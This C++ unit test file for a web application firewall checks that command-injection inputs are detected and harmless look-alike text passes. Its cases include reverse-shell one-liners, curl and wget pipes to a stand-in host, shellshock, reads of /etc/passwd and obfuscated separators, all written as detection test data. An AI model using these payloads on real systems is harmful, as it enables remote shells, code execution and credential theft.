#include "waf_test_util.h"

namespace rampart::waf {
namespace {

using testing::Case;
using testing::verdict;

TEST(CommandInjection, AttacksAreFound) {
  const Case cases[] = {
      {"; cat /etc/passwd", "path-traversal: sensitive file path"},
      {"127.0.0.1; whoami", "command-injection: command after shell separator"},
      {"x && curl http://evil.example/s.sh | sh",
       "command-injection: command after shell separator"},
      {"$(id)", "command-injection: command substitution"},
      {"`uname -a`", "command-injection: command substitution"},
      {"a|nc -e /bin/sh 10.0.0.1 4444", "command-injection: command after shell separator"},
      {";c\\at${IFS}x", "command-injection: command after shell separator"},
      {";w\'h\'oami", "command-injection: command after shell separator"},
      {"() { :; }; /bin/bash -c id", "command-injection: shellshock"},
      {"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "command-injection: reverse shell"},
      {"/?\?\?/?\?t /?\?\?/p?\?s?\?", "command-injection: wildcard path"},
      {"| powershell -enc SQBFAFgA", "command-injection: command after shell separator"},
      {"for /f %i in (x) do whoami", "command-injection: cmd for loop"},
      {"\nwget http://evil.example/x", "command-injection: command after shell separator"},
      {"cats & dogs", ""},
      {"$[2+2]", "command-injection: shell expansion"},
      {"${PATH#{}/}", "command-injection: shell expansion"},
      {"Hello ${name}, total ${total}", ""},
      {"alias a=c${KK}url&a google.com", "command-injection: command alias"},
      {"alias name=Robert", ""},
      {"/etc/pas[s]wd", "command-injection: wildcard path"},
      {"/usr/bin/[u]name -a", "command-injection: wildcard path"},
      {"use the regex /[a-z]+/ to match", ""},
      {"Try this:\nif x == 1:\n    print(x)", ""},
      {"if (a == b) {", ""},
      {"Fixed it: int x = 1; /*x*/ y = 2;", ""},
      {"IF /I NOT item1==item2 CMD", "command-injection: cmd if"},
      {"I'd like to select a different colour", ""},
      {"Thanks!\nI'd rather wait", ""},
      {"Quick one-liner: `du -sh * | sort -h` lists folder sizes.", ""},
      {"Tom & Jerry; cat lovers unite", ""},
      {"time flies", ""},
      {"I need more time; less stress", ""},
      {"ls", ""},
      {"Find the best shoes | free shipping", ""},
      {"Ping me at noon", ""},
      {"echo chamber", ""},
  };
  for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
}

TEST(CommandInjection, LookAlikesPass) {
  const Case cases[] = {

  };
  for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
}

}  // namespace
}  // namespace rampart::waf

namespace rampart::waf {
namespace {

TEST(CommandInjection, WindowsAndPrefixedForms) {
  EXPECT_EQ(testing::verdict("& FOR /F \"tokens=1\" %A IN (\"x\") DO @echo pwnd"),
            "command-injection: cmd for loop");
  EXPECT_EQ(testing::verdict("IF EXIST C:\\pagefile.sys CMD"), "command-injection: cmd if");
  EXPECT_EQ(testing::verdict("time ifconfig"), "command-injection: command after a prefix command");
  EXPECT_EQ(testing::verdict("a=nc&&$a -nlvp 555"),
            "command-injection: command through a variable");
  EXPECT_EQ(testing::verdict("IF %ERRORLEVEL% EQU 2 goto sub"), "command-injection: cmd if");
  EXPECT_EQ(testing::verdict("whoami;x"), "command-injection: command then shell separator");
  EXPECT_EQ(testing::verdict("find /etc -name passwd -exec cat {} +"),
            "command-injection: find -exec");
  EXPECT_EQ(testing::verdict("if you exist, say hi"), "");
  EXPECT_EQ(testing::verdict("for all of us in the team, do good"), "");
}

}  // namespace
}  // namespace rampart::waf
